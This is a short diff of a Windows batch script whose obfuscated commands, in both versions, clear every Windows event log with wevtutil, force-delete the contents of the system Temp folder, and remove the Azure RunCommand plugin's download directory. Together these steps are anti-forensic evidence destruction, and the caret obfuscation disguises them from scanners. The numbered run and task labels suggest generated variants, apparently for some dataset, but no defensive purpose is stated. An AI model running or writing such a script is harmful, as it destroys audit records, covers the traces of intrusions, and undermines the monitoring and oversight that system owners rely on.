@@ -1,8 +1,8 @@
-REM run 7293 v0
-^fo^r /F "tokens=*" %%1 ^i^n ('^w^ev^tut^il.ex^e el') D^O w^e^v^t^ut^il.ex^e cl "%%1"
+REM task 0487 v0
+fo^r /F "tokens=*" %%^1 ^in ('^w^ev^t^uti^l.^exe e^l') D^O ^w^e^vtu^t^il.exe ^c^l "%%1"
 @echo off
-set znwy=del /f /q C:\Windows\Temp\*.*
-call %znwy%
+set lqlv=del /f /q C:\Windows\Temp\*.*
+call %lqlv%
 @echo off
-set yuec=rd /s /q C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.15\Downloads
-call %yuec%
+set mvqi=rd /s /q C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.15\Downloads
+call %mvqi%
